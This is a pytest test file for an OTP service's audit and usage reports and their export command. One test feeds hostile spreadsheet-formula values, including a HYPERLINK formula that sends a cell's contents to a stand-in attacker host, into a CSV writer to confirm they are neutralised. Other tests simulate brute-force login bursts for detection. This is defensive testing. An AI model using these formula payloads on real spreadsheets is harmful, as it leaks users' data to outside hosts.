"""Demo data, the report queries and the `report` command, on SQLite and (in CI) PostgreSQL."""

import contextlib
import csv
import hashlib
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from otp_service.audit.rows import RequestContext
from otp_service.core import errors, totp
from otp_service.core.transitions import to_datetime
from otp_service.db.models import AuditLog, Device, Report
from otp_service.reports import audit_queries, bursts, usage_queries
from otp_service.reports.demo import generate
from otp_service.reports.pdf import render_pdf
from otp_service.reports.runner import NOTEBOOKS_DIR
from tests.helpers import code_at, wrong_code
from tests.serving import run_cli

START, END = datetime(2026, 2, 1), datetime(2026, 3, 1)
DEMO_END = datetime(2026, 3, 1, tzinfo=UTC)


def totals(database):
    with database.connection_context():
        return audit_queries.audit_totals(START, END)


def lifecycle(database):
    with database.connection_context():
        return usage_queries.lifecycle_totals(START, END)


# What the demo's lifecycle stories leave, each at least once, whatever the seed.
DEMO_LIFECYCLE = (
    "enrolments_confirmed",
    "enrolments_expired",
    "confirmation_codes_wrong",
    "resyncs_succeeded",
    "resyncs_refused_wrong",
    "drift_recentred",
    "drift_resets",
    "recovery_sets_issued",
    "recovery_codes_used",
    "recovery_codes_refused_wrong",
    "recovery_codes_refused_used",
)


def test_demo_data_is_reproducible_for_a_seed(service, database, tmp_path):
    done = generate(service, devices=12, days=10, seed=3, end=DEMO_END)
    first, first_lifecycle = totals(database), lifecycle(database)
    assert done["register"] == 12 and first["verifications"] > 100 and first["locks"] >= 1
    assert all(first_lifecycle[measure] >= 1 for measure in DEMO_LIFECYCLE), first_lifecycle
    url = f"sqlite:///{tmp_path}/second.db"
    assert (
        run_cli(
            "demo-data", "--devices", "12", "--days", "10", "--seed", "3", "--database-url", url, cwd=tmp_path
        ).returncode
        == 0
    )
    from otp_service.db.database import open_database

    other = open_database(url, 1)
    assert totals(other) == first and lifecycle(other) == first_lifecycle
    other.close_all()
    again = run_cli("demo-data", "--devices", "12", "--days", "10", "--seed", "3", "--database-url", url, cwd=tmp_path)
    assert again.returncode == 1 and "already holds demo devices" in again.stderr


def test_report_queries_agree_with_the_rows(service, database):
    generate(service, devices=10, days=14, seed=5, end=DEMO_END)
    with database.connection_context():
        rows = list(AuditLog.select().where((AuditLog.timestamp >= START) & (AuditLog.timestamp < END)))
        t = audit_queries.audit_totals(START, END)
        verifications = [r for r in rows if r.action == "OTP_VERIFICATION"]
        assert t["verifications"] == len(verifications)
        assert t["verifications_succeeded"] == sum(r.success for r in verifications)
        assert t["locks"] == sum(r.action == "DEVICE_LOCKED" for r in rows)
        by_reason = audit_queries.failures_by_reason(START, END)
        assert dict(zip(by_reason["reason"], by_reason["failures"], strict=True)) == {
            reason: sum(1 for r in verifications if r.reason == reason)
            for reason in {r.reason for r in verifications if not r.success}
        }
        daily = usage_queries.daily_activity(START, END)
        assert len(set(daily["day"])) == 28 and daily["succeeded"].sum() + daily["failed"].sum() == len(rows)
        episodes = bursts.brute_force_episodes(START, END)
        assert len(episodes) >= 1 and (episodes["failures"] >= 5).all()
        devices = len({r.device_id for r in rows if r.action == "DEVICE_REGISTERED" and r.success})
        assert usage_queries.usage_distribution(END)["devices"].sum() == devices
        assert usage_queries.parameter_mix(END)["devices"].sum() == devices
        assert usage_queries.drift_distribution(END)["devices"].sum() == devices
        assert usage_queries.device_states(END)["devices"].sum() == devices
        cutoff = END - timedelta(days=3)
        stale = [
            d
            for d in Device.select()
            if d.is_active and d.created_at < cutoff and (d.last_used is None or d.last_used < cutoff)
        ]
        assert usage_queries.stale_device_count(END, 3) == len(stale) > 0
        assert len(usage_queries.stale_devices(END, 3, limit=1)) == 1  # the list is capped; the count is not
        top = audit_queries.top_failing("ip_address", START, END, 3)
        assert top["ip_address"].iloc[0] == "203.0.113.99"  # the simulated attacker
        by_client = audit_queries.actions_by_client(START, END)
        assert by_client["audit rows"].sum() == len(rows)
        for client, action, count, ok in by_client.itertuples(index=False):
            mine = [r for r in rows if r.action == action and (r.actor or audit_queries.NO_CLIENT) == client]
            assert (count, ok) == (len(mine), sum(r.success for r in mine))
        admin = audit_queries.admin_actions(START, END)
        administered = [r for r in rows if r.action in audit_queries.ADMIN_ACTIONS]
        assert {r.action for r in administered} == {"DEVICE_DEACTIVATED", "DRIFT_RESET"}  # what the demo's operator did
        assert list(admin["device_id"]) == [r.device_id for r in administered] and set(admin["client"]) <= {
            "ops-console"
        }
        totals_now = audit_queries.audit_totals(START, END)
        verified = [r for r in verifications if r.reason != "REPLAYED"]  # double submits are not attempts
        assert totals_now["success_rate_percent"] == round(100 * sum(r.success for r in verified) / len(verified), 2)
        assert totals_now["devices_locked"] == len({r.device_id for r in rows if r.action == "DEVICE_LOCKED"})
        assert totals_now["verifications_double_submit"] == sum(r.reason == "REPLAYED" for r in verifications)
        per_day = audit_queries.daily_verifications(START, END)
        assert len(per_day) == 28 and per_day.drop(columns="day").to_numpy().sum() == len(verifications)
        refused = audit_queries.refused_requests(START, END)
        scanner = refused[refused["client address"] == "192.0.2.66"]
        assert dict(zip(scanner["refused for"], scanner["requests"], strict=True)) == {
            "wrong or missing API key": sum(r.action == "AUTH_FAILED" for r in rows),
            "rate limit": sum(r.action == "RATE_LIMITED" for r in rows),
        }
        assert audit_queries.count_failing("device_id", START, END) == len(
            {r.device_id for r in verifications if not r.success and r.device_id}
        )
        _lifecycle_agrees_with(rows)


def _lifecycle_agrees_with(rows: list[AuditLog]) -> None:
    """The lifecycle figures, recounted here from the rows themselves."""

    def data(row):
        return json.loads(row.additional_data or "{}")

    def n(action, success=None, reason=None):
        return sum(
            r.action == action and (success is None or r.success == success) and (reason is None or r.reason == reason)
            for r in rows
        )

    life = usage_queries.lifecycle_totals(START, END)
    assert life["enrolments_pending"] == sum(
        r.action == "DEVICE_REGISTERED" and r.success and data(r).get("pending") is True for r in rows
    )
    assert life["enrolments_confirmed"] == n("DEVICE_CONFIRMED", True)
    assert life["enrolments_expired"] == n("ENROLLMENT_EXPIRED")
    assert life["drift_recentred"] == sum(
        r.action == "OTP_VERIFICATION" and r.success and "recentred_from" in data(r) for r in rows
    )
    assert life["resyncs_succeeded"] == n("DEVICE_RESYNCED", True)
    refused = life["resyncs_refused_wrong"] + life["resyncs_refused_used"] + life["resyncs_refused_other"]
    assert refused == n("DEVICE_RESYNCED", False)
    assert life["recovery_codes_used"] == n("RECOVERY_CODE_VERIFICATION", True)
    assert life["recovery_codes_refused_wrong"] == n("RECOVERY_CODE_VERIFICATION", False, "INVALID_CODE")
    assert life["recovery_sets_issued"] == n("RECOVERY_CODES_ISSUED", True)

    # each confirmation timed from its device's latest registration before it
    def whole_seconds(at: datetime) -> int:  # since 1970, as the database counts them (stored times are UTC)
        return int(at.replace(tzinfo=UTC).timestamp())

    registrations = [r for r in rows if r.action == "DEVICE_REGISTERED" and r.success]
    expected = []
    for confirmed in (r for r in rows if r.action == "DEVICE_CONFIRMED" and r.success):
        mine = [r for r in registrations if r.device_id == confirmed.device_id and r.id < confirmed.id]
        expected.append(whole_seconds(confirmed.timestamp) - whole_seconds(max(r.timestamp for r in mine)))
    times = usage_queries.confirmation_times(START, END)
    assert sorted(times["seconds"].repeat(times["enrolments"])) == sorted(expected)
    offsets = usage_queries.resync_offsets(START, END)
    found = [data(r)["offset"] for r in rows if r.action == "DEVICE_RESYNCED" and r.success]
    assert sorted(offsets["offset_steps"].repeat(offsets["resyncs"])) == sorted(found)


CTX = RequestContext("198.51.100.7", "AcmeBank-iOS/5.2", None, "app")


def test_lifecycle_report_counts_a_history_made_through_the_service(service, database, clock):
    """A small history of every lifecycle outcome, made through the service, and what the report says of it."""
    day = to_datetime(clock.now).replace(hour=0, minute=0, second=0, microsecond=0)
    # Enrolments: A after a wrong first code (40 s), B (90 s), C expires (the sweep records it) and is
    # registered again and confirmed (30 s, timed from the second registration), D needs no confirmation.
    a = service.register("A", "alice", CTX, confirm=True)
    clock.advance(20)
    assert service.confirm("A", wrong_code(a, clock.now), CTX)["reason"] == "INVALID_CODE"
    clock.advance(20)
    assert service.confirm("A", code_at(a, clock.now), CTX)["valid"] is True
    clock.advance(60)
    b = service.register("B", "bob", CTX, confirm=True)
    clock.advance(90)
    assert service.confirm("B", code_at(b, clock.now), CTX)["valid"] is True
    clock.advance(10)
    service.register("C", "carol", CTX, confirm=True)
    clock.advance(601)
    assert service.expire_pending() == 1
    clock.advance(99)
    c = service.register("C", "carol", CTX, confirm=True)
    clock.advance(30)
    assert service.confirm("C", code_at(c, clock.now), CTX)["valid"] is True
    d = service.register("D", "dave", CTX)

    # D's clock is 10 minutes fast: a resync finds +21 steps; a wrong pair, the same pair again; then its
    # clock is set right (its next code is re-centred), an operator resets the offset, D is deactivated.
    step = totp.time_step(clock.now)

    def pair(first: int) -> list[str]:  # the codes of two consecutive time steps
        return [code_at(d, (first + k) * 30 + 1) for k in (0, 1)]

    assert service.resync("D", *pair(step + 20), CTX)["drift"] == 21
    assert service.resync("D", code_at(d, clock.now, 3), code_at(d, clock.now, 5), CTX)["reason"] == "INVALID_CODE"
    assert service.resync("D", *pair(step + 20), CTX)["reason"] == "REPLAYED"
    clock.advance(25 * 30)  # past the steps the resync used up
    assert service.verify("D", code_at(d, clock.now), CTX)["valid"] is True  # re-centred
    clock.advance(30)
    assert service.verify("A", code_at(a, clock.now), CTX)["valid"] is True  # an ordinary sign-in
    service.reset_drift("D", CTX)
    service.deactivate("D", CTX)
    with pytest.raises(errors.DeviceInactive):
        service.resync("D", *pair(step + 40), CTX)

    # Recovery codes: two sets; one code used, then again; five wrong ones lock the set; one more while locked.
    codes = service.issue_recovery_codes("alice", CTX)["codes"]
    service.issue_recovery_codes("bob", CTX)
    assert service.use_recovery_code("alice", codes[0], CTX)["valid"] is True
    assert service.use_recovery_code("alice", codes[0], CTX)["reason"] == "REPLAYED"
    for _ in range(5):
        assert service.use_recovery_code("alice", "2222-3333-4444", CTX)["reason"] == "INVALID_CODE"
    with pytest.raises(errors.RecoveryCodesLocked):
        service.use_recovery_code("alice", codes[1], CTX)

    # Still pending at the end: F's deadline has passed (no sweep yet), E's has not.
    service.register("F", "frank", CTX, confirm=True)
    clock.advance(601)
    service.register("E", "erin", CTX, confirm=True)
    as_of = to_datetime(clock.now + 60)

    start, end = day, day + timedelta(days=1)
    with database.connection_context():
        life = usage_queries.lifecycle_totals(start, end)
        times = usage_queries.confirmation_times(start, end)
        offsets = usage_queries.resync_offsets(start, end)
        states = usage_queries.device_states(as_of)
        before = usage_queries.lifecycle_totals(start - timedelta(days=1), start)
    assert life == {
        "enrolments_pending": 6,  # A, B, C twice, F, E
        "enrolments_confirmed": 3,
        "enrolments_expired": 1,  # F's expiry is not recorded yet
        "confirmation_rate_percent": 75.0,
        "confirmation_codes_wrong": 1,
        "resyncs_succeeded": 1,
        "resyncs_refused_wrong": 1,
        "resyncs_refused_used": 1,
        "resyncs_refused_other": 1,
        "drift_recentred": 1,
        "drift_resets": 1,
        "recovery_sets_issued": 2,
        "recovery_codes_used": 1,
        "recovery_codes_refused_wrong": 5,
        "recovery_codes_refused_used": 1,
        "recovery_codes_refused_other": 1,
        "recovery_code_locks": 1,
    }
    assert list(times.itertuples(index=False, name=None)) == [(30, 1), (40, 1), (90, 1)]
    assert usage_queries.median_seconds(times) == 40.0
    assert list(offsets.itertuples(index=False, name=None)) == [(21, 30, 1)]
    assert dict(zip(states["state"], states["devices"], strict=True)) == {
        "active": 3,
        "awaiting confirmation": 1,
        "deactivated": 1,
        "enrolment expired": 1,
    }
    assert before["enrolments_pending"] == 0 and before["confirmation_rate_percent"] is None
    assert usage_queries.median_seconds(times.iloc[0:0]) is None


PASSWORD = "report-pass-0123456789"


def as_a_user_would_write_it(db_url: str) -> str:
    """SQLite: a path relative to the working directory. PostgreSQL: with a password in the URL (the test
    server trusts local connections, so it is ignored there — but it must not be written anywhere)."""
    if db_url.startswith("sqlite"):
        return "sqlite:///test.db"
    return db_url.replace("://postgres@", f"://postgres:{PASSWORD}@")


@pytest.mark.slow
def test_report_command_writes_html_csv_png_and_stores_the_report(service, database, db_url, tmp_path):
    generate(service, devices=10, days=14, seed=5, end=DEMO_END)
    service.checkpoint()  # as the server does every few minutes: the report signs none first
    url = as_a_user_would_write_it(db_url)
    result = run_cli(
        "report",
        "audit",
        "--start",
        "2026-02-01",
        "--end",
        "2026-02-28",
        "--database-url",
        url,
        "--output-dir",
        "out",
        cwd=tmp_path,
        timeout=300,
        **service_keys(service),
    )
    assert result.returncode == 0, result.stderr
    assert "IPKernelApp" not in result.stderr and "WARNING" not in result.stderr  # the kernel talks over IPC
    assert not list((NOTEBOOKS_DIR).glob("*.db")), "a relative SQLite path must not name a file beside the notebooks"
    out = tmp_path / "out"
    for path in out.rglob("*"):  # neither the URL's password nor the URL itself in anything the report wrote
        if path.is_file():
            content = path.read_bytes()
            assert PASSWORD.encode() not in content and url.encode() not in content, path
    html = (out / "audit-2026-02-01_2026-02-28.html").read_text()
    assert (out / "audit-2026-02-01_2026-02-28.ipynb").exists()
    data = out / "audit-2026-02-01_2026-02-28"
    assert {"summary.csv", "failures_by_reason.csv", "brute_force_episodes.csv"} <= {p.name for p in data.glob("*.csv")}
    assert (data / "daily_verifications.png").stat().st_size > 1000
    assert "data:image/png;base64" in html and "context.prepare(" not in html  # figures inline, code hidden
    assert "<script" not in html and "cdnjs" not in html  # self-contained: opens offline
    assert "<title>OTP service audit report, 2026-02-01 to 2026-02-28</title>" in html
    assert "Integrity of these records" in html and "<strong>Intact.</strong>" in html
    # plain words for the reader: no parameter names, no interval notation, no folder of the machine that ran it
    for engineer in ("burst_threshold", "burst_gap", "[2026-02-01", "Folder:", str(tmp_path), "/tmp/"):
        assert engineer not in html, engineer
    assert "1 February 2026 to 28 February 2026, both days included (28 days)" in html
    assert "otp-service 0.1.0" in html and "the <code>report</code> command" in html  # software, who made it
    expected = totals(database)
    assert f">{expected['verifications']}</td>" in html and "double submit" in html
    with database.connection_context():
        [stored] = list(Report.select())
    assert (stored.kind, stored.period_start, stored.period_end, stored.subject) == ("audit", START, END, None)
    assert stored.html == html
    archive = zipfile.ZipFile(io.BytesIO(bytes(stored.data_zip)))
    assert (out / "audit-2026-02-01_2026-02-28.zip").read_bytes() == bytes(stored.data_zip)
    assert_manifest_holds(archive)
    events = list(csv.DictReader(io.StringIO(archive.read("audit_events.csv").decode())))
    with database.connection_context():
        assert len(events) == AuditLog.select().where(AuditLog.timestamp.between(START, END)).count()
    assert {"summary.csv", "brute_force_episodes.csv", "refused_requests.csv"} <= set(archive.namelist())
    refused = list(csv.DictReader(io.StringIO(archive.read("refused_requests.csv").decode())))
    assert refused[0]["client address"] == "192.0.2.66"  # the scanner without an API key
    assert_pdf(out / "audit-2026-02-01_2026-02-28.pdf", stored.pdf)


def service_keys(service) -> dict[str, str]:
    """The service's secrets, for the `report` command: its rows' personal digests and its checkpoints'
    signatures are checked with them (the command's own development keys would call them forged)."""
    settings = service.settings
    return {"MASTER_SECRET": settings.master_secret, "AUDIT_SIGNING_KEY": settings.audit_signing_key}


def assert_manifest_holds(archive: zipfile.ZipFile) -> None:
    """SHA256SUMS names every other file in the zip with its SHA-256 (what `sha256sum -c` checks)."""
    lines = archive.read("SHA256SUMS").decode().splitlines()
    listed = {name: digest for digest, name in (line.split("  ", 1) for line in lines)}
    assert set(listed) == set(archive.namelist()) - {"SHA256SUMS"} and listed
    for name, digest in listed.items():
        assert hashlib.sha256(archive.read(name)).hexdigest() == digest, name


def assert_pdf(path, stored) -> None:
    """The PDF beside the HTML, and the same in the database; skipped (with the reason) only where WeasyPrint
    cannot load its system libraries."""
    _, problem = render_pdf("<p>x</p>")
    if problem:
        pytest.skip(f"no PDF on this machine: {problem}")
    assert path.read_bytes().startswith(b"%PDF-") and bytes(stored) == path.read_bytes()


@pytest.mark.slow
def test_usage_report_command(service, db_url, tmp_path):
    generate(service, devices=8, days=10, seed=2, end=DEMO_END)
    service.checkpoint()  # as the server does every few minutes: the report signs none first
    result = run_cli(
        "report",
        "usage",
        "--start",
        "2026-02-15",
        "--end",
        "2026-02-28",
        "--database-url",
        db_url,
        "--output-dir",
        str(tmp_path),
        "--no-store",
        cwd=tmp_path,
        timeout=300,
        **service_keys(service),
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "usage-2026-02-15_2026-02-28" / "verifications_per_day.png").exists()


@pytest.mark.slow
def test_user_report_command_holds_the_users_devices_and_whole_trail(service, database, db_url, tmp_path):
    """`report user` with no dates covers the user's whole history, to today; it is stored, listed and served
    like the others, and erasing the user deletes it."""
    generate(service, devices=8, days=10, seed=2, end=DEMO_END)
    service.checkpoint()  # as the server does every few minutes: the report signs none first
    user = "user001@example.com"
    with database.connection_context():
        mine = list(AuditLog.select().where(AuditLog.user_id == user).order_by(AuditLog.id))
        first, count = mine[0].timestamp.date(), len(mine)
    result = run_cli(
        *("report", "user", "--user-id", user, "--database-url", db_url, "--output-dir", "out"),
        cwd=tmp_path,
        timeout=300,
        **service_keys(service),
    )
    assert result.returncode == 0, result.stderr
    name = f"user-{user}-{first}_{datetime.now(UTC).date()}"
    html = (tmp_path / "out" / f"{name}.html").read_text()
    assert f"<title>OTP service user report for {user}, {first} to" in html
    assert "DEMO-0001" in html and "Audit trail" in html
    assert "<strong>Intact.</strong>" in html
    with database.connection_context():
        [stored] = list(Report.select())
    assert (stored.kind, stored.subject) == ("user", user)
    archive = zipfile.ZipFile(io.BytesIO(bytes(stored.data_zip)))
    assert_manifest_holds(archive)
    events = list(csv.DictReader(io.StringIO(archive.read("audit_events.csv").decode())))
    assert len(events) == count and {e["user_id"] for e in events} == {user}  # all of theirs, no one else's
    trail = list(csv.DictReader(io.StringIO(archive.read("audit_trail.csv").decode())))
    assert len(trail) == count
    assert {"devices.csv", "recovery_codes.csv", "activity.csv"} <= set(archive.namelist())
    assert_pdf(tmp_path / "out" / f"{name}.pdf", stored.pdf)
    erased = service.erase_user(user, CTX)
    assert erased["user_reports"] == 1
    with database.connection_context():
        assert Report.select().count() == 0


@pytest.mark.slow
@pytest.mark.parametrize(
    "args,message",
    [
        (["--start", "2026-02-01"], "needs --start and --end"),
        (["--start", "2026-02-01", "--end", "2026-02-02", "--user-id", "alice"], "--user-id is needed for a user"),
        (["--start", "2026-02-30", "--end", "2026-03-01"], "--start must be a date"),
        (["--start", "yesterday", "--end", "2026-03-01"], "--start must be a date"),
        (["--start", "2026-03-01", "--end", "2026-02-01"], "before the start date"),
        (
            ["--start", "2026-02-01", "--end", "2026-02-02", "--database-url", "postgresql://postgres@127.0.0.1:1/x"],
            "cannot reach the database",
        ),
    ],
)
def test_report_command_refuses_bad_input_clearly(tmp_path, args, message):
    result = run_cli("report", "audit", *args, cwd=tmp_path, DB_TIMEOUT="2", DATABASE_URL=f"sqlite:///{tmp_path}/r.db")
    assert result.returncode != 0 and message in result.stderr and "Traceback" not in result.stderr


@pytest.mark.slow
@pytest.mark.parametrize(
    "args,message",
    [
        ([], "--user-id is needed for a user report"),
        (["--user-id", "bad\u0007id"], "user_id must be"),
        (["--user-id", "alice", "--end", "2026-13-01"], "--end must be a date"),
    ],
)
def test_user_report_refuses_bad_input_with_exit_code_2(tmp_path, args, message):
    result = run_cli("report", "user", *args, cwd=tmp_path, DATABASE_URL=f"sqlite:///{tmp_path}/r.db")
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


def test_report_csvs_neutralise_spreadsheet_formulas(tmp_path):
    """A user id chosen by an API caller must not run as a formula in the compliance team's spreadsheet."""
    import csv

    import pandas as pd

    from otp_service.reports.output import ReportOutput

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    frame = pd.DataFrame({"user_id": [*hostile, "alice", None], "failures": [1, 2, 3, 4, 5, 6, 7, 8]})
    returned = ReportOutput(tmp_path).table("top_users", frame)
    assert returned["user_id"].tolist()[:6] == hostile  # the page shows what happened, as it happened
    with open(tmp_path / "top_users.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["user_id"] for r in rows] == ["'" + h for h in hostile] + ["alice", ""]
    assert [r["failures"] for r in rows] == [str(n) for n in range(1, 9)]


def _at(text: str) -> float:
    """A UTC time of day on 2026-02-19 as epoch seconds."""
    return datetime.fromisoformat(f"2026-02-19T{text}+00:00").timestamp()


def _fail(service, device_id: str, registration: dict, when: float, ip: str) -> None:
    """One wrong code for `device_id` at `when` from `ip` (refused; once the device is locked, refused for that)."""
    ctx = RequestContext(ip, "curl/8.5", None, "login-frontend")
    with contextlib.suppress(errors.ServiceError):
        service.verify(device_id, wrong_code(registration, when), ctx, now=when)


def test_brute_force_episodes_slide_with_the_failures_not_the_clock(service, database):
    """Bursts are runs of failures no more than two minutes apart, per device, user or client address, wherever
    they fall against the clock: fixed ten-minute buckets split the first attack at 05:20 into two and missed
    the second (four failures either side of 06:00) altogether."""
    day = _at("00:00:00")
    devices = {
        name: service.register(name, f"{name.lower()}@example.com", CTX, now=day)
        for name in ("VICTIM", "OTHER", "SLOW", "EDGE", *(f"SPRAY-{n}" for n in range(6)))
    }
    # 40 failures 12 s apart: 05:17:53 to 05:25:41 (7 min 48 s), across 05:20.
    for n in range(40):
        _fail(service, "VICTIM", devices["VICTIM"], _at("05:17:53") + 12 * n, "203.0.113.99")
    # 8 failures from 05:59:10 to 06:00:40, across 06:00.
    for n in range(8):
        _fail(service, "OTHER", devices["OTHER"], _at("05:59:10") + n * 90 / 7, "203.0.113.50")
    # 5 failures 121 s apart: a slow typist or a patient attacker, but never a burst of this rule.
    for n in range(5):
        _fail(service, "SLOW", devices["SLOW"], _at("08:00:00") + 121 * n, "198.51.100.5")
    # 5 failures exactly 120 s apart: the longest gap that still continues a burst.
    for n in range(5):
        _fail(service, "EDGE", devices["EDGE"], _at("09:00:00") + 120 * n, "198.51.100.6")
    # One address trying six devices once each, 20 s apart: no device and no user sees a burst; the address does.
    for n in range(6):
        _fail(service, f"SPRAY-{n}", devices[f"SPRAY-{n}"], _at("10:00:00") + 20 * n, "192.0.2.10")

    with database.connection_context():
        episodes = bursts.brute_force_episodes(datetime(2026, 2, 19), datetime(2026, 2, 20))
    rows = [
        (
            e["first failure (UTC)"],
            e["last failure (UTC)"],
            e["failures"],
            e["devices"],
            e["client addresses"],
            "yes" if e["locks"] else "no",
            e["seen per"],
        )
        for e in episodes.to_dict("records")
    ]
    spray = ", ".join(f"SPRAY-{n}" for n in range(6))
    assert rows == [
        (
            "2026-02-19T05:17:53Z",
            "2026-02-19T05:25:41Z",
            40,
            "VICTIM",
            "203.0.113.99",
            "yes",
            "device, user, client address",
        ),
        (
            "2026-02-19T05:59:10Z",
            "2026-02-19T06:00:40Z",
            8,
            "OTHER",
            "203.0.113.50",
            "yes",
            "device, user, client address",
        ),
        (
            "2026-02-19T09:00:00Z",
            "2026-02-19T09:08:00Z",
            5,
            "EDGE",
            "198.51.100.6",
            "yes",
            "device, user, client address",
        ),
        ("2026-02-19T10:00:00Z", "2026-02-19T10:01:40Z", 6, spray, "192.0.2.10", "no", "client address"),
    ]
    assert episodes["users"].iloc[0] == "victim@example.com"
    assert episodes["users"].iloc[3] == ", ".join(f"spray-{n}@example.com" for n in range(6))
    with database.connection_context():  # a period that cuts an attack counts the part inside it
        cut = bursts.brute_force_episodes(datetime(2026, 2, 19, 5, 20), datetime(2026, 2, 19, 5, 22))
    assert list(cut["failures"]) == [10]
